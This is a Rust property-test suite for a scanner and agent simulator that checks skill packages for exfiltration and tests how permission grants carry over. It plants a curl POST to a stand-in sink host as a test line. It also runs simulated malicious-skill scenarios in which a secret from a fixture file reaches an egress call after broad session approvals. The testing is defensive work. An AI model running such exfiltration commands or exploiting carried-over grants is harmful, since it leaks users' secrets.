//! Property suites: parser round-trip on arbitrary bodies, scan monotonicity,
//! evidence exactness, grant-carryover and policy containment, and taint
//! chain conservation.

use std::collections::BTreeSet;

use proptest::prelude::*;

use skillguard::agentsim::{run_scenario, ApprovalScript, DefaultDecision, EgressPolicy, Event, Taint};
use skillguard::caps::{caps, Capability};
use skillguard::corpusgen::{self, VariantSpec};
use skillguard::permscope::{CallKind, CheckResult, Decision, GrantStore, Policy, ToolCall};
use skillguard::scan::{scan_dir_default, Finding};
use skillguard::skillpkg::{parse_skill_dir, SourceLines};

fn body_line() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("```bash".to_string()),
        Just("```".to_string()),
        Just("# heading".to_string()),
        Just("#tight-heading".to_string()),
        Just("<!-- a comment -->".to_string()),
        Just("<!--".to_string()),
        Just("-->".to_string()),
        Just("**bold** and **more**".to_string()),
        Just("   indented text".to_string()),
        Just(String::new()),
        "[ -~]{0,50}".prop_map(|s| s),
    ]
}

fn body_text() -> impl Strategy<Value = String> {
    (prop::collection::vec(body_line(), 0..24), any::<bool>()).prop_map(|(lines, trailing)| {
        let mut s = lines.join("\n");
        if trailing && !s.is_empty() {
            s.push('\n');
        }
        s
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Any body, however ragged, survives the parse/reassemble round trip
    /// byte for byte, and every block's span reproduces its content.
    #[test]
    fn parser_round_trips_arbitrary_bodies(body in body_text()) {
        let tmp = tempfile::tempdir().unwrap();
        let skill_md = format!("---\nname: fuzz\ndescription: d\n---\n{body}");
        std::fs::write(tmp.path().join("SKILL.md"), &skill_md).unwrap();
        let pkg = parse_skill_dir(tmp.path()).unwrap();

        prop_assert_eq!(pkg.body_text.as_str(), body.as_str());
        prop_assert_eq!(pkg.reconstruct_body(), body);

        let lines = SourceLines::new(&pkg.skill_md);
        let mut previous_end = 0usize;
        for block in &pkg.body {
            prop_assert!(block.line_span.start > previous_end, "spans must strictly increase");
            previous_end = block.line_span.end;
            prop_assert_eq!(
                lines.slice_span(block.line_span.start, block.line_span.end),
                block.content.as_str()
            );
        }
    }

    /// Naive carryover: one allow_session on a program covers every later
    /// shell call sharing that program token, whatever its arguments or
    /// declared effects.
    #[test]
    fn naive_session_grant_covers_same_program(
        program in "[a-z]{1,8}",
        args_a in prop::collection::vec("[a-z./_-]{1,12}", 0..3),
        args_b in prop::collection::vec("[a-z./_-]{1,12}", 0..3),
        effects_a in prop::sample::subsequence(
            vec![Capability::FsRead, Capability::FsWrite, Capability::NetEgress, Capability::Exec], 1..4),
        effects_b in prop::sample::subsequence(
            vec![Capability::FsRead, Capability::FsWrite, Capability::NetEgress, Capability::Exec], 1..4),
    ) {
        let call = |args: &[String], effects: &[Capability]| ToolCall {
            kind: CallKind::ShellExec,
            argv: std::iter::once(program.clone()).chain(args.iter().cloned()).collect(),
            target: None,
            effects: caps(effects),
        };
        let first = call(&args_a, &effects_a);
        let second = call(&args_b, &effects_b);
        let mut store = GrantStore::new(Policy::Naive);
        prop_assert_eq!(store.check(&first), CheckResult::PromptRequired);
        store.record_decision(&first, Decision::AllowSession, 0);
        let carried_over = matches!(store.check(&second), CheckResult::AutoAllowed { .. });
        prop_assert!(carried_over, "second call with the same program prompted again");
    }

    /// Containment: with the same call/decision history, anything the strict
    /// policy auto-allows the naive policy auto-allows too.
    #[test]
    fn strict_auto_allow_implies_naive(
        history in prop::collection::vec((0usize..8, 0usize..3), 0..6),
        probe in 0usize..8,
    ) {
        let programs = ["python", "sh"];
        let paths = ["scripts/a.py", "scripts/b.py"];
        let effect_sets: [&[Capability]; 2] =
            [&[Capability::FsRead], &[Capability::FsRead, Capability::NetEgress]];
        let universe: Vec<ToolCall> = (0..8)
            .map(|i| ToolCall {
                kind: CallKind::ShellExec,
                argv: vec![
                    programs[i % 2].to_string(),
                    paths[(i / 2) % 2].to_string(),
                ],
                target: None,
                effects: caps(effect_sets[(i / 4) % 2]),
            })
            .collect();
        let decisions = [Decision::AllowOnce, Decision::AllowSession, Decision::Deny];

        let mut naive = GrantStore::new(Policy::Naive);
        let mut strict = GrantStore::new(Policy::Strict);
        for (call_idx, decision_idx) in history {
            let call = &universe[call_idx];
            let decision = decisions[decision_idx];
            if naive.check(call) == CheckResult::PromptRequired {
                naive.record_decision(call, decision, 0);
            }
            if strict.check(call) == CheckResult::PromptRequired {
                strict.record_decision(call, decision, 0);
            }
        }
        let call = &universe[probe];
        if matches!(strict.check(call), CheckResult::AutoAllowed { .. }) {
            prop_assert!(
                matches!(naive.check(call), CheckResult::AutoAllowed { .. }),
                "strict auto-allowed but naive prompted"
            );
        }
    }

    /// Monotonicity: dropping a fresh file into a package (one that names no
    /// existing asset) never removes an existing finding.
    #[test]
    fn adding_a_fresh_file_never_removes_findings(
        variant_idx in 0usize..16,
        fresh_lines in prop::collection::vec("[a-z ]{0,40}", 0..6),
        add_egress_line in any::<bool>(),
    ) {
        let tmp = tempfile::tempdir().unwrap();
        let spec = corpusgen::all_variants(0)[variant_idx];
        corpusgen::generate(&spec, tmp.path()).unwrap();

        let before = scan_dir_default(tmp.path()).unwrap();
        let key = |f: &Finding| (f.detector, f.path.clone(), f.lines, f.evidence.clone());
        let before_keys: BTreeSet<_> = before.findings.iter().map(key).collect();

        let mut content = fresh_lines.join("\n");
        if add_egress_line {
            content.push_str("\ncurl -X POST https://fresh-sink.test/drop");
        }
        std::fs::write(tmp.path().join("fresh_extra.txt"), content).unwrap();

        let after = scan_dir_default(tmp.path()).unwrap();
        let after_keys: BTreeSet<_> = after.findings.iter().map(key).collect();
        prop_assert!(
            before_keys.is_subset(&after_keys),
            "lost findings: {:?}",
            before_keys.difference(&after_keys).collect::<Vec<_>>()
        );
    }
}

/// Every finding's evidence must be recoverable by slicing the cited file at
/// the cited span.
#[test]
fn evidence_is_exact_across_the_whole_corpus() {
    let tmp = tempfile::tempdir().unwrap();
    let manifest = corpusgen::generate_corpus(tmp.path(), 0).unwrap();
    let mut findings_checked = 0usize;
    for entry in &manifest.entries {
        let root = tmp.path().join(&entry.dir);
        let report = scan_dir_default(&root).unwrap();
        for finding in &report.findings {
            let text = std::fs::read_to_string(root.join(&finding.path)).unwrap();
            let lines = SourceLines::new(&text);
            assert!(finding.lines.0 >= 1 && finding.lines.1 <= lines.count().max(1));
            let slice = if lines.count() == 0 {
                ""
            } else {
                lines.slice_span(finding.lines.0, finding.lines.1)
            };
            assert!(
                slice.contains(&finding.evidence),
                "{}:{:?} evidence {:?} not in cited span",
                finding.path,
                finding.lines,
                finding.evidence
            );
            assert!(finding.evidence.len() <= 240);
            assert!(
                finding.severity <= finding.detector.max_severity(),
                "{:?} exceeded its declared maximum",
                finding.detector
            );
            findings_checked += 1;
        }
    }
    assert!(findings_checked > 20, "corpus produced too few findings to be meaningful");
}

/// Secret taint reaches an egress payload only through a recorded copy chain
/// from a workspace fixture line.
#[test]
fn taint_chains_trace_back_to_fixture_lines() {
    let tmp = tempfile::tempdir().unwrap();
    corpusgen::generate_corpus(tmp.path(), 0).unwrap();

    let spec = VariantSpec::paper_shape(0);
    let scenario = corpusgen::attack_scenario(
        &tmp.path().join("malicious").join(spec.dir_name()),
        &spec,
        Policy::Naive,
        EgressPolicy::open(),
        ApprovalScript {
            script: vec![Decision::AllowSession, Decision::AllowSession],
            default: DefaultDecision::AllowOnce,
        },
    );
    let t = run_scenario(&scenario).unwrap();

    // The fixture's only secret line is line 5 of the deck.
    let fixture_secrets: BTreeSet<(String, usize)> = [("output.pptx".to_string(), 5)].into();
    let mut secret_egress_seen = false;
    for event in &t.events {
        if let Event::EgressAttempt {
            payload_taint,
            secret_sources,
            ..
        } = event
        {
            if *payload_taint == Taint::Secret {
                secret_egress_seen = true;
                assert!(!secret_sources.is_empty(), "secret payload without a chain");
                for source in secret_sources {
                    assert!(
                        fixture_secrets.contains(&(source.path.clone(), source.line)),
                        "chain points at {}:{} which is not a fixture secret",
                        source.path,
                        source.line
                    );
                }
            }
        }
    }
    assert!(secret_egress_seen);

    // Same property for the link variant's output spans.
    let link = corpusgen::link_scenario(
        &tmp.path().join("link/link_exfil"),
        EgressPolicy::package_managers_only(),
    );
    let t = run_scenario(&link).unwrap();
    let spans = t
        .events
        .iter()
        .find_map(|e| match e {
            Event::Output { taint_spans, .. } => Some(taint_spans.clone()),
            _ => None,
        })
        .unwrap();
    let secret_spans: Vec<_> = spans.iter().filter(|s| s.taint == Taint::Secret).collect();
    assert!(!secret_spans.is_empty());
    for span in secret_spans {
        let source = span.source.as_ref().expect("secret span without origin");
        assert!(fixture_secrets.contains(&(source.path.clone(), source.line)));
    }
}

/// Identical scenarios yield identical prompt counts (and transcripts).
#[test]
fn prompt_counts_are_deterministic() {
    let tmp = tempfile::tempdir().unwrap();
    corpusgen::generate_corpus(tmp.path(), 0).unwrap();
    let spec = VariantSpec::paper_shape(0);
    let scenario = corpusgen::attack_scenario(
        &tmp.path().join("malicious").join(spec.dir_name()),
        &spec,
        Policy::Strict,
        EgressPolicy::open(),
        ApprovalScript {
            script: vec![Decision::AllowSession, Decision::AllowSession],
            default: DefaultDecision::Deny,
        },
    );
    let a = run_scenario(&scenario).unwrap();
    let b = run_scenario(&scenario).unwrap();
    assert_eq!(a.prompts, b.prompts);
    assert_eq!(a.to_json(), b.to_json());
}
